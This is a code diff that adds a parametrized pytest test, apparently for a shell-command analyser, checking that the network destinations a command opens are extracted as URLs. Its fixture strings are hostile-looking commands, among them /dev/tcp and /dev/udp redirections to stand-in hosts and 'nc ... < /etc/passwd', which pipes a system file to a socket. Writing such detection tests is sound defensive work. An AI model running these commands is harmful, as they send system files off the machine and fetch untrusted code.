@@ -251,3 +251,18 @@ def test_facts_are_cached() -> None:
 
 def _quote(text: str) -> str:
     return "'" + text.replace("'", "'\\''") + "'"
+
+
+@pytest.mark.parametrize(
+    ("text", "url"),
+    [
+        ("cat < /dev/tcp/evil.example/80", "http://evil.example:80/"),
+        ("echo x > /dev/udp/10.0.0.1/53", "http://10.0.0.1:53/"),
+        ("git clone https://evil.example/repo", "https://evil.example/repo"),
+        ("pip install git+https://x.example/y", "git+https://x.example/y"),
+        ("ssh root@10.0.0.5 uptime", "ssh://10.0.0.5/"),
+        ("nc 127.0.0.1 4444 < /etc/passwd", "tcp://127.0.0.1/"),
+    ],
+)
+def test_connections_a_command_opens_are_urls(text: str, url: str) -> None:
+    assert url in [u.url for u in shell_facts(text).urls]
